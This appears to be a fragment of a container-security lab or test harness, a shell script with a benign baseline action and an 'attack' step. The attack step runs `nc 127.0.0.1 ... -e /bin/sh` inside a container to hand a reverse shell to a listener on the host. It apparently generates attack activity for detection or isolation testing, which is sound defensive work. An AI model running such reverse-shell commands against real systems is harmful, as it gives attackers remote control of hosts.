# A reverse shell through nc: the container connects out to a listener on the host and hands it a shell
# (`nc -e /bin/sh`), which the listener uses (id, uname, exit).
normal() { inside "$1" /bin/sh -c 'echo ok > /tmp/health; cat /tmp/health' >/dev/null; }
host_setup() { shell_listener; }
# (`timeout` runs a program, not a shell function: the runtime helper goes along into its shell.)
attack() {
  LAB_RUNTIME=$LAB_RUNTIME timeout 10 bash -c "$(declare -f rt lab_log); rt exec \"\$@\"" _ "$1" \
    /bin/nc 127.0.0.1 "$LISTEN_PORT" -e /bin/sh || true
}
host_cleanup() { listener_stop; }
